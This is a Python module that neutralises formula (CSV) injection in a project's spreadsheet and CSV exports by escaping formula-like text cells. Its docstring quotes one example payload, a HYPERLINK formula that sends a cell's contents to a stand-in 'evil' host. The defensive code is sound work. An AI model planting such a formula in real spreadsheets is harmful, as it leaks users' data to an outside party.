"""Formula injection ("CSV injection", OWASP): text that a spreadsheet would run is written as text.

Action plans, recommendations and progress notes are typed by CSP officers and travel back out in
the Annex B progress update and the research exports. A text such as
``=HYPERLINK("http://evil/?"&A1,"Click")`` must never reach Excel or LibreOffice as a live formula.
A cell is *formula-like* when it is text starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return (the OWASP list); a plain number written as text ("-3", "+4.5") is not, so
negative numbers stay as they are.

* **CSV** has no types: a formula-like text gets a leading apostrophe (:func:`escape_text`,
  :func:`escape_frame`), as OWASP recommends; spreadsheet programs show it as text.
* **Workbooks** (.xlsx) have types: the cell is written as a text cell with Excel's "quote prefix"
  (:func:`protect_workbook`), which is what Excel itself stores when someone types ``'=...``. The
  text is unchanged, so the Annex B workbook a CSP returns reads back through ``dhr ingest`` with
  exactly the words it sent, and the cell stays text even when it is edited in Excel.

Every workbook the project writes goes through :func:`protect_workbook` just before it is saved
(``dhr.forms._common.save_workbook``, ``dhr.research_export``), so a writer added later is
covered by the same call.
"""

from __future__ import annotations

import re
from typing import Any

import polars as pl

#: The characters that make a spreadsheet read a cell as a formula (OWASP CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_START_PATTERN = r"^[=+\-@\t\r]"
#: A plain number written as text: never run as a formula, so left alone.
_NUMBER_PATTERN = r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$"
_NUMBER = re.compile(_NUMBER_PATTERN)


def is_formula_like(value: Any) -> bool:
    """True for text a spreadsheet would read as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.match(value)


def escape_text(value: Any) -> Any:
    """A value for a CSV cell: formula-like text gets a leading apostrophe; anything else as it is."""
    return "'" + value if is_formula_like(value) else value


def escape_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """The frame with :func:`escape_text` applied to every text column (a polars expression, no Python UDF)."""
    exprs = []
    for name, dtype in frame.schema.items():
        if dtype in (pl.Utf8, pl.Categorical, pl.Enum):
            column = pl.col(name).cast(pl.Utf8)
            risky = column.str.contains(_FORMULA_START_PATTERN) & ~column.str.contains(_NUMBER_PATTERN)
            exprs.append(pl.when(risky).then(pl.lit("'") + column).otherwise(column).alias(name))
    return frame.with_columns(exprs) if exprs else frame


def protect_workbook(workbook: Any) -> Any:
    """Make every formula-like text cell of an openpyxl workbook a text cell with the quote prefix.

    openpyxl stores any string starting with ``=`` as a formula; this undoes that for every cell of
    every worksheet (the project never writes a formula on purpose). Returns the workbook.
    """
    for sheet in workbook.worksheets:
        cells = getattr(sheet, "_cells", None)  # the cells that exist; iter_rows() would create blank ones
        if cells is None:
            continue  # a chart sheet
        for cell in cells.values():
            if is_formula_like(cell.value):
                cell.data_type = "s"
                cell.quotePrefix = True
    return workbook
